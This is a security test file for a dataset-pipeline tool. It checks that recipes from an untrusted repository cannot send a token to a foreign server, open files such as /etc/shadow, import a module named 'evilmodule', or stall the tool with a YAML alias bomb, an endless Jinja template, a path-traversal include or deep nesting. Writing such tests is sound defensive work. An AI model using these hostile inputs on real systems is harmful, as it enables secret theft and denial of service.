"""A stranger's repository acts on nothing: what its recipe asks for is listed, and no address is asked and no file opened."""

from __future__ import annotations

import os
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from click.testing import CliRunner

from evokd_data import localhub
from evokd_data.cli import cli
from evokd_data.errors import EvokdError, RecipeError
from evokd_data.localhub.child import RunningHub
from evokd_data.revisions import resume
from evokd_data.revisions.diff import diff
from evokd_data.revisions.load import list_rounds
from evokd_data.revisions.replay import replay
from evokd_data.revisions.reproduce import reproduce
from evokd_data.revisions.verify import verify
from evokd_data.seeds import load_splits
from evokd_data.stages import manifest
from evokd_data.storage.workspace import Workspace
from evokd_data.yaml_files import dump_yaml, load_yaml
from tests.support import ROOT
from tests.support.published_runs import Played, alter_recipe, entry, published, republish

pytestmark = pytest.mark.slow

pytestmark = pytest.mark.slow
CANARY = "hf_canaryCanaryCanaryCanaryCanary"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHub]:
    with localhub.running(tmp_path_factory.mktemp("hub")) as running:
        yield running


@pytest.fixture(scope="module")
def run(server: RunningHub, tmp_path_factory: pytest.TempPathFactory) -> Played:
    return published(server, tmp_path_factory.mktemp("run"), "org/colours", 2)


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """An address, and the Authorization headers that came there."""
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            received.append(self.headers.get("Authorization", "no key"))
            self.send_response(404)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server calls

        def log_message(self, *arguments: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        Thread(target=listening.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{listening.server_port}/v1", received
        listening.shutdown()


def test_a_strangers_server_gets_no_key_and_no_request(
    run: Played, attacker: tuple[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, received = attacker
    monkeypatch.setenv("HF_TOKEN", CANARY)
    teacher = {"engine": "server", "model": "m", "urls": [url], "api_key_env": "HF_TOKEN", "retries": 0}
    repo = alter_recipe(run, "stealing", 1, lambda table: table.update(teacher=teacher))
    with pytest.raises(RecipeError, match=r"api_key_env=\"HF_TOKEN\""):
        reproduce(repo, 1, out=tmp_path, cache_dir=tmp_path / "cache", **run.at)
    assert received == []
    with pytest.raises(EvokdError, match=r"refused generate/[0-9/]+: 404"):
        reproduce(
            repo, 1, out=tmp_path, cache_dir=tmp_path / "cache", **run.at,
            overrides=(f"teacher.urls=[{url}]", "teacher.api_key_env=null"),
        )  # fmt: skip
    assert set(received) == {"no key"}  # the user named this address, and no key for it


_opened: list[str] | None = None


def _note_opened(event: str, arguments: tuple[Any, ...]) -> None:
    if event == "open" and _opened is not None:
        _opened.append(str(arguments[0]))


@pytest.fixture(scope="module")
def opened() -> Callable[[], list[str]]:
    """Begins a list of the files that this process opens from now on, and returns it."""
    sys.addaudithook(_note_opened)

    def begin() -> list[str]:
        global _opened
        _opened = []
        return _opened

    return begin


def test_replay_opens_no_file_that_a_stranger_names(
    run: Played, opened: Callable[[], list[str]], tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("red crimson\n", encoding="utf-8")
    repo = alter_recipe(
        run, "curious", 1, lambda table: table.update(strategy={"name": "eda", "synonyms": str(secret)})
    )
    files = opened()
    with pytest.raises(RecipeError, match=r"strategy\.synonyms"):
        replay(repo, 1, cache_dir=tmp_path / "cache", **run.at)
    assert files and str(secret) not in files


def test_a_run_begun_from_a_strangers_round_opens_no_file_that_it_names(
    run: Played, opened: Callable[[], list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("red crimson\n", encoding="utf-8")
    monkeypatch.setenv("HF_TOKEN", run.server.token)
    repo = alter_recipe(run, "luring", 1, lambda table: table.update(strategy={"name": "eda", "synonyms": str(secret)}))
    inputs = manifest.inputs(run.recipe, load_splits(run.recipe).digests())
    files = opened()
    start = resume.begin(run.recipe, Workspace(tmp_path / "runs"), f"{repo}@round-001", inputs)
    assert start is not None and start.branch
    assert files and str(secret) not in files


def test_the_command_lists_what_is_asked_for(run: Played, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", run.server.token)
    repo = alter_recipe(
        run, "asking", 1, lambda table: table.update(strategy={"name": "eda", "synonyms": "/etc/shadow"})
    )
    result = CliRunner().invoke(cli, ["replay", repo, "--round", "1", "--endpoint", run.server.endpoint])
    assert result.exit_code == 1
    assert '--set strategy.synonyms="/etc/shadow"' in result.output


Change = Callable[[Path, dict[str, Any]], None]


def text_file(path: str, text: str) -> Change:
    """Another text in a file of the revision."""

    def change(folder: Path, manifest: dict[str, Any]) -> None:
        (folder / path).write_text(text, encoding="utf-8")
        manifest["files"][path] = entry(folder / path)

    return change


def recipe_of(**sections: Any) -> Change:
    def change(folder: Path, manifest: dict[str, Any]) -> None:
        table = {**load_yaml((folder / "recipe.yaml").read_text(encoding="utf-8")), **sections}
        text_file("recipe.yaml", dump_yaml(table))(folder, manifest)

    return change


def shard_rows(count: Any) -> Change:
    return lambda folder, manifest: manifest["shards"][0].update(rows=count)


OUTSIDE = "http://192.0.2.1:9/v1"  # a network of documentation: nothing answers there
STRANGERS: dict[str, Change] = {
    "server": recipe_of(teacher={"engine": "server", "model": "m", "urls": [OUTSIDE], "api_key_env": "HF_TOKEN"}),
    "engine arguments": recipe_of(teacher={"model": "org/m", "engine_args": {"worker_extension_cls": "evilmodule.Ext"}}),
    "cluster": recipe_of(teacher={"engine": "ray", "model": "org/m", "address": "192.0.2.1:6379", "parts": "s3://evil"}),
    "model folder": recipe_of(teacher={"model": "/etc"}),
    "file of the strategy": recipe_of(strategy={"name": "eda", "synonyms": "/etc/hosts"}),
    "data elsewhere": recipe_of(seeds={"path": "/etc/hosts"}, test={"path": "/etc/hosts"}, dev={"path": "/etc/hosts"}),
    "hub elsewhere": recipe_of(publish={"repo": "a/b", "endpoint": OUTSIDE, "hub_root": "/etc"}),
    "alias bomb": text_file("recipe.yaml", "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))),
    "deep recipe": text_file("recipe.yaml", "x: " + "[" * 5000),
    "deep plan": text_file("rounds/round-001/plan.json", "[" * 100_000),
    "endless template": text_file(
        "prompts/generate.j2",
        "{% block user %}{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}x{% endblock %}",
    ),
    "curious template": text_file("prompts/generate.j2", "{% block user %}{% include '../../recipe.yaml' %}{% endblock %}"),
    "negative rows": shard_rows(-5),
    "too many rows": shard_rows(10**30),
    "no rows": shard_rows("all"),
}  # fmt: skip
READABLE = (
    "/usr",
    "/lib",
    "/proc",
    "/sys",
    "/dev",
    "/etc/ssl",
    "/etc/localtime",
    "/etc/mime.types",
    "/etc/apache2",
    sys.prefix,
    sys.base_prefix,
)


@pytest.fixture(scope="module")
def acts() -> Iterator[list[str]]:
    """What this process does to the outside: processes it starts, addresses it connects to, files it opens for writing."""
    done: list[str] = []

    def note(event: str, arguments: tuple[Any, ...]) -> None:
        if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn"):
            done.append(f"{event} {arguments[0]}")
        elif event == "socket.connect" and isinstance(arguments[1], tuple):
            done.append(f"connect {arguments[1][0]}")
        elif event == "open" and isinstance(arguments[0], str) and arguments[0].startswith("/"):
            done.append(f"open {arguments[0]}")
        elif event == "import" and str(arguments[0]).startswith("evil"):
            done.append(f"import {arguments[0]}")

    sys.addaudithook(note)
    yield done


@pytest.mark.parametrize("stranger", STRANGERS)
def test_no_strangers_repository_acts_on_this_machine(
    run: Played, stranger: str, acts: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_TOKEN", run.server.token)
    monkeypatch.setenv("EVOKD_CANARY", CANARY)
    repo = republish(run, stranger.replace(" ", "-"), 1, STRANGERS[stranger])
    at = {"endpoint": run.server.endpoint, "cache_dir": tmp_path / "cache"}
    readings: dict[str, Callable[[], Any]] = {
        "rounds": lambda: list_rounds(repo, **at),
        "verify": lambda: verify(repo, 1, **at),
        "diff": lambda: diff(repo, 0, 1, **at),
        "replay": lambda: replay(repo, 1, **at),
        "reproduce": lambda: reproduce(repo, 1, out=tmp_path / "out", limit=2, **at),
    }
    for name, read in readings.items():
        acts.clear()
        started = time.process_time()
        try:
            read()
        except EvokdError as error:
            assert CANARY not in str(error)
        assert time.process_time() - started < 20, name
        strange = [act for act in acts if not _is_ours(act, tmp_path, run)]
        assert strange == [], name


def _is_ours(act: str, folder: Path, run: Played) -> bool:
    verb, _, what = act.partition(" ")
    if verb == "connect":
        return what in ("127.0.0.1", "::1")
    ours = (
        str(folder),
        tempfile.gettempdir(),
        str(Path.home() / ".cache" / "huggingface"),
        os.environ["HF_HOME"],
        str(ROOT),
    )
    return verb == "open" and what.startswith((*ours, *READABLE))
